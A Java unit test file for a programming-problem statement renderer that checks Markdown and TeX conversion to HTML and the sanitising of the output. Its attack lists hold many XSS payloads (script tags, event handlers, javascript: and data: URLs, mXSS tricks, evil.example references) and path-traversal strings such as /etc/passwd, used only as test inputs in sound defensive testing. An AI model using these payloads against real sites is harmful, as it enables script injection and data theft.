/*
 * Copyright Gretlab authors
 * SPDX-License-Identifier: Apache-2.0
 */
package dev.gretlab.api.problem.pack;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import dev.gretlab.api.problem.pack.ProblemPackage.PublicFile;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

@Tag("unit")
class StatementTests {

    private static final byte[] PNG =
            "\u0089PNG\r\n\u001a\n...".getBytes(StandardCharsets.ISO_8859_1);

    private static PackageZip markdown(String text) {
        return PackageZip.current()
                .with("statement/problem.en.md", text)
                .with("statement/map.png", PNG)
                .with(
                        "statement/img/b.jpg",
                        "\u00ff\u00d8\u00ff".getBytes(StandardCharsets.ISO_8859_1));
    }

    private static PackageZip tex(String text) {
        return PackageZip.legacy()
                .with("problem_statement/problem.en.tex", text)
                .with("problem_statement/map.png", PNG);
    }

    private static String html(PackageZip zip) {
        return zip.accepted().statements().getOrDefault("en", "");
    }

    // Markdown

    @Test
    void showsMarkdown() {
        String html =
                html(
                        markdown(
                                """
                                # Task

                                Some *emphasis*, **weight**, `code $x$`, a \\$5 price, $10 and $20.

                                | a | b |
                                |---|--:|
                                | $x_1$ | `y` |

                                - one
                                - two

                                [link](https://example.org/x?a=1&b=2)
                                """));
        assertThat(html)
                .contains(
                        "<h2>Task</h2>",
                        "<em>emphasis</em>, <strong>weight</strong>, <code>code $x$</code>, a $5"
                                + " price, $10 and $20.",
                        "<td align=\"right\"><code>y</code></td>",
                        "<msub><mi>x</mi><mn>1</mn></msub>",
                        "<li>one</li>",
                        "<a href=\"https://example.org/x?a=1&amp;b=2\" rel=\"noopener noreferrer\">");
    }

    @Test
    void showsMathsThatLooksLikeMarkdown() {
        String html =
                html(
                        markdown(
                                """
                                Let $a_1 * b_2 * c_3$ and $$x_1 *y* x_2$$ be. Also $\\{1, 2\\}$.

                                $$
                                a
                                - b_1
                                + c_1
                                = d

                                # e
                                $$

                                The end.
                                """
                                        .replace("# e", "e")));
        assertThat(html).doesNotContain("<em>", "<ul>", "<h2>", "$");
        assertThat(Jsoup.parse(html).select("math")).hasSize(4);
        assertThat(Jsoup.parse(html).select("math[display=block]")).hasSize(2);
        assertThat(html).contains("<p>The end.</p>");
    }

    @Test
    void keepsPunctuationWithItsFormula() {
        assertThat(html(markdown("Take ($a$), the $k$-th & \"$b$\".")))
                .isEqualTo(
                        "<p>Take <span class=\"math\">(<math alttext=\"a\"><mi>a</mi></math>),</span>"
                                + " the <span class=\"math\"><math"
                                + " alttext=\"k\"><mi>k</mi></math>-th</span> &amp; &quot;<span"
                                + " class=\"math\"><math alttext=\"b\"><mi>b</mi></math></span>&quot;.</p>");
    }

    @Test
    void rewritesPicturesToThePackagesFiles() {
        ProblemPackage problem =
                markdown("![A map $x$ \"q\"](map.png) ![](./img/b.jpg)").accepted();
        assertThat(problem.statements().get("en"))
                .contains("src=\"/api/v1/problems/sum/files/map.png\"")
                .contains("src=\"/api/v1/problems/sum/files/img/b.jpg\"")
                .contains("alt=\"A map")
                .doesNotContain("<math");
        assertThat(problem.files())
                .extracting(PublicFile::path)
                .containsExactly("img/b.jpg", "map.png");
        assertThat(problem.files())
                .extracting(PublicFile::contentType)
                .containsExactly("image/jpeg", "image/png");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "https://example.org/x.png",
                "//example.org/x.png",
                "/etc/passwd",
                "../data/secret/01.in",
                "data:image/png;base64,AAAA",
                "javascript:alert(1)",
                "missing.png",
                "problem.en.md",
            })
    void refusesOtherPictures(String source) {
        assertThat(markdown("![x](" + source + ")").faults()).isNotEmpty();
        assertThat(markdown("x <img src=\"" + source + "\">").faults()).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
                "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
                "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
                "<svg><image href='https://example.org/x.png'/></svg>",
                "<svg><foreignObject><body/></foreignObject></svg>",
                "<!DOCTYPE svg [<!ENTITY x 'y'>]><svg>&x;</svg>",
                "<html></html>",
            })
    void refusesDrawingsThatCanDoThings(String svg) {
        assertThat(markdown("![x](a.svg)").with("statement/a.svg", svg).faults())
                .singleElement()
                .asString()
                .contains("statement/a.svg");
    }

    @Test
    void takesPlainDrawings() {
        assertThat(
                        markdown("![x](a.svg)")
                                .with(
                                        "statement/a.svg",
                                        "<?xml version='1.0'?><svg><use href='#a'/><path id='a'"
                                                + " d='M0 0'/></svg>")
                                .accepted()
                                .files())
                .extracting(PublicFile::contentType)
                .containsExactly("image/svg+xml");
    }

    @Test
    void refusesPicturesThatAreSomethingElse() {
        assertThat(
                        markdown("![x](a.png)")
                                .with("statement/a.png", "<script>alert(1)</script>")
                                .faults())
                .singleElement()
                .asString()
                .contains("not what its ending says");
    }

    @Test
    void offersAttachments() {
        ProblemPackage problem =
                markdown("Text.").with("attachments/tool.py", "print(1)").accepted();
        assertThat(problem.statements().get("en"))
                .contains("href=\"/api/v1/problems/sum/files/attachments/tool.py\"");
        assertThat(problem.files())
                .extracting(PublicFile::path, PublicFile::contentType)
                .containsExactly(tuple("attachments/tool.py", "application/octet-stream"));
    }

    @ParameterizedTest
    @CsvSource({
        "'[^1]: note',footnotes",
        "{{nextsample}},samples are shown below",
        "{{remainingsamples}},samples are shown below",
        "$\\undefined$,\\undefined",
    })
    void refusesMarkdownThatItCannotShow(String text, String fault) {
        assertThat(markdown("Text " + "\n\n" + text).faults())
                .singleElement()
                .asString()
                .contains(fault);
    }

    // attacks

    private static final Set<String> HTML =
            Set.of(
                    "p",
                    "br",
                    "hr",
                    "h2",
                    "h3",
                    "h4",
                    "ul",
                    "ol",
                    "li",
                    "dl",
                    "dt",
                    "dd",
                    "blockquote",
                    "pre",
                    "code",
                    "kbd",
                    "samp",
                    "var",
                    "em",
                    "strong",
                    "b",
                    "i",
                    "u",
                    "s",
                    "del",
                    "sub",
                    "sup",
                    "small",
                    "a",
                    "img",
                    "figure",
                    "figcaption",
                    "table",
                    "caption",
                    "thead",
                    "tbody",
                    "tr",
                    "th",
                    "td");

    /** Parses as a browser does and looks at all that is left. */
    private static void harmless(String html) {
        for (Element element : Jsoup.parseBodyFragment(html).body().children().select("*")) {
            if (element.closest("math") != null || element.is("span.math")) {
                continue; // the tests of formulas look at these
            }
            assertThat(element.tagName()).as(html).isIn(HTML);
            for (Attribute attribute : element.attributes()) {
                assertThat(attribute.getKey())
                        .as(html)
                        .isIn(
                                "href", "rel", "src", "alt", "width", "height", "align", "colspan",
                                "rowspan", "start");
                if (attribute.getKey().equals("href")) {
                    assertThat(attribute.getValue()).as(html).matches("https?://.*");
                }
                if (attribute.getKey().equals("src")) {
                    assertThat(attribute.getValue()).startsWith("/api/v1/problems/sum/files/");
                }
            }
        }
    }

    private static final List<String> ATTACKS =
            List.of(
                    "<script>alert(1)</script>",
                    "<ScRiPt src=//evil.example></sCrIpT>",
                    "<p onclick=\"alert(1)\">x</p>",
                    "<p style=\"background:url(javascript:alert(1))\" class=a id=b>x</p>",
                    "<style>*{display:none}</style>",
                    "<svg onload=alert(1)><script>alert(1)</script></svg>",
                    "<svg><style><img src=x onerror=alert(1)></style></svg>",
                    "<iframe src=javascript:alert(1)></iframe><object data=x></object><embed src=x>",
                    "<form action=//evil.example><input name=a><button>b</button></form>",
                    "<a href=\"javascript:alert(1)\">x</a>",
                    "<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
                    "<a href=\"java\tscript:alert(1)\">x</a>",
                    "<a href=\" &#1;javascript:alert(1)\">x</a>",
                    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                    "<a href=\"vbscript:x\">x</a><a href=\"//evil.example\">y</a><a href=/signin>z</a>",
                    "[x](javascript:alert(1)) [y](data:text/html,x) <javascript:alert(1)>",
                    "<math><mi href=\"javascript:alert(1)\">x</mi></math>",
                    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi><annotation-xml"
                            + " encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
                    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1"
                            + " onerror=alert(1)&gt;\">",
                    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                    "<template><script>alert(1)</script></template>",
                    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=x><link"
                            + " rel=stylesheet href=x>",
                    "<!--><img src=x onerror=alert(1)>-->",
                    "<p><<script>alert(1)//<</script></p>",
                    "<img src=\"map.png\" onerror=\"alert(1)\" srcset=\"//evil.example/x 2x\">",
                    "<img src=\"map.png\" width=\"1e9px;position:fixed\" alt='\"onerror=\"x'>",
                    "![x\" onerror=\"alert(1)](map.png)",
                    "<textarea></p><script>alert(1)</script></textarea>",
                    "<select><option><script>alert(1)</script></option></select>",
                    "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
                    "\uE0000\uE001 <p title=\"\uE0000\uE001\">$x$</p> $y$",
                    "$\\text{<script>alert(1)</script>}$",
                    "$x\" onmouseover=\"alert(1)$",
                    "<b title='$x$'>$\\text{'>}$</b>");

    @Test
    void leavesNothingHarmfulOfMarkdown() {
        for (String attack : ATTACKS) {
            PackageReading reading =
                    markdown("Before.\n\n" + attack + "\n\nAfter " + attack).read();
            if (reading instanceof PackageReading.Accepted accepted) {
                harmless(accepted.problem().statements().getOrDefault("en", ""));
            } else {
                assertThat(attack)
                        .as("only pictures and formulas refuse")
                        .containsAnyOf("<img", "$");
            }
        }
    }

    @Test
    void leavesNothingHarmfulOfTex() {
        List<String> more =
                List.of(
                        "\\href{javascript:alert(1)}{x}",
                        "\\url{javascript:alert(1)}",
                        "\\href{https://a.example/\" onclick=\"alert(1)}{x}",
                        "\\verb|<script>alert(1)</script>|",
                        "\\begin{verbatim}</code></pre><script>alert(1)</script>\\end{verbatim}",
                        "\\includegraphics{map.png\" onerror=\"alert(1)}",
                        "\\multicolumn",
                        "\\begin{tabular}{l}\\multicolumn{2\" onclick=\"x}{l}{a}\\end{tabular}");
        int accepted = 0;
        for (String attack : Stream.concat(ATTACKS.stream(), more.stream()).toList()) {
            if (tex("Text " + attack).read() instanceof PackageReading.Accepted read) {
                accepted++;
                harmless(read.problem().statements().getOrDefault("en", ""));
            }
        }
        assertThat(accepted).isGreaterThan(15);
    }

    @Test
    void refusesTextThatIsNestedTooDeeply() {
        assertThat(markdown("<b>".repeat(3000) + "x").faults())
                .singleElement()
                .asString()
                .contains("nested too deeply");
        assertThat(markdown("> ".repeat(3000) + "x").read()).isNotNull();
        assertThat(markdown("*a **b ".repeat(5000) + "x" + "** b* ".repeat(5000)).read())
                .isNotNull();
        assertThat(markdown("[".repeat(20000)).read()).isNotNull();
        assertThat(markdown("$".repeat(20000)).read()).isNotNull();
        assertThat(tex("{".repeat(3000)).faults()).isNotEmpty();
        assertThat(tex("\\begin{itemize}\\item ".repeat(500)).faults()).isNotEmpty();
    }

    // TeX

    @Test
    void showsTex() {
        String html =
                html(
                        tex(
                                """
                                \\problemname{Sum}
                                % a comment
                                You get ``two'' numbers --- $a$ and~$b$, \\emph{both} \\textbf{small};
                                that is 50\\% of \\texttt{x\\_y}, {\\it sloped} text, \\verb|a<b|, na\\"{\\i}ve, Erd\\H{o}s.

                                Second \\url{https://example.org/}.

                                \\section*{Input}
                                \\begin{itemize}
                                  \\item One line with $n$ ($1 \\le n \\le 10$).
                                  \\item[--] More:
                                  \\begin{enumerate}
                                    \\item inner
                                  \\end{enumerate}
                                \\end{itemize}

                                \\begin{Output}
                                Print \\[ \\sum_{i=1}^n i \\] and \\(x\\).
                                \\end{Output}

                                \\begin{center}
                                \\begin{tabular}{|l|r|}
                                \\hline
                                a & $b$ \\\\ \\hline
                                \\multicolumn{2}{c}{wide} \\\\
                                \\hline
                                \\end{tabular}
                                \\end{center}

                                \\begin{figure}[h]
                                \\centering
                                \\includegraphics[width=0.5\\textwidth]{map}
                                \\caption{The map}
                                \\label{fig:map}
                                \\end{figure}

                                \\begin{verbatim}
                                1 < 2
                                \\end{verbatim}

                                \\begin{align*} a &= b \\\\ &= c \\end{align*}
                                """));
        assertThat(html)
                .contains(
                        "<p>You get “two” numbers — <span class=\"math\"><math",
                        "and&nbsp;<span class=\"math\"><math",
                        "<em>both</em> <strong>small</strong>",
                        "50% of <code>x_y</code>, <em>sloped</em> text, <code>a&lt;b</code>, naïve,"
                                + " Erdős.</p>",
                        "<a href=\"https://example.org/\" rel=\"noopener noreferrer\">https://example.org/</a>",
                        "<h2>Input</h2>",
                        "<ol>\n<li>inner</li>\n</ol>",
                        "<h2>Output</h2>",
                        "<munderover><mo>∑</mo>",
                        "<tr><td>a</td><td><span class=\"math\"><math",
                        "<td colspan=\"2\">wide</td>",
                        "<figure><p><img src=\"/api/v1/problems/sum/files/map.png\" alt=\"\"></p>\n"
                                + "<figcaption>The map</figcaption>",
                        "<pre><code>1 &lt; 2\n</code></pre>",
                        "<mtable class=\"aligned\">")
                .doesNotContain("comment", "problemname", "hline", "fig:map");
    }

    @ParameterizedTest
    @CsvSource({
        "'one\n\n\\unknown{x}',line 3: \\unknown",
        "\\input{other},\\input",
        "\\begin{tikzpicture}x\\end{tikzpicture},tikzpicture",
        "\\begin{itemize}\\item x,itemize",
        "a & b,outside a table",
        "$x,never closed",
        "{x,never closed",
        "x},without its {",
        "\\emph,argument",
        "\\nextsample,samples are shown below",
        "\\verb|x,never closed",
        "\\end{itemize},has no beginning",
        "$\\nope$,\\nope",
        "\\includegraphics{gone.pdf},which is missing",
    })
    void refusesTexThatItCannotShow(String text, String fault) {
        assertThat(tex(text).faults())
                .anySatisfy(f -> assertThat(f).contains("problem_statement/").contains(fault));
    }
}
